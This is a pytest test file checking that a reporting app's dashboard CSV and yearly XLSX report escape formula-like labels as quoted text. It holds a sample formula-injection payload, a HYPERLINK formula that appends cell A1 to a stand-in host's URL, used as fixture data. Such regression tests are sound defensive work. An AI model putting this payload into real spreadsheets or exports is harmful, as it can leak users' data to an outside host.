"""The dashboard's CSV tables and the county's year report (XLSX) write a formula-like label as
text, never a live formula: through dte.core.spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from dte.catalog.models import Occupation
from dte.reports import services
from tests.reports.conftest import AI

FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'
AT = datetime(2025, 12, 20, 2, 0, tzinfo=UTC)


@pytest.fixture
def formula_occupation(history):
    Occupation.objects.filter(code=AI).update(name=FORMULA)


def test_the_dashboard_csv_writes_a_formula_like_label_as_text(formula_occupation, city_officer, client_as):
    r = client_as(city_officer).get("/reports/dashboard/?download=funnel_occupation")
    cells = [row[0] for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig")))]
    assert any(c.startswith("'" + FORMULA) for c in cells), cells
    assert not any(c.startswith("=") for c in cells)


def test_the_year_report_xlsx_stores_a_formula_like_label_as_quoted_text(
    formula_occupation, county_reviewer, client_as
):
    report = services.report_generate(actor=county_reviewer, county=county_reviewer.county, year=2025, at=AT)
    r = client_as(county_reviewer).get(f"/reports/year/{report.pk}/?format=xlsx")
    cells = [c for row in load_workbook(io.BytesIO(r.content)).active.iter_rows() for c in row]
    formulas = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA)]
    assert formulas and all(c.data_type == "s" and c.quotePrefix for c in formulas)
    assert not [c for c in cells if c.data_type == "f"]
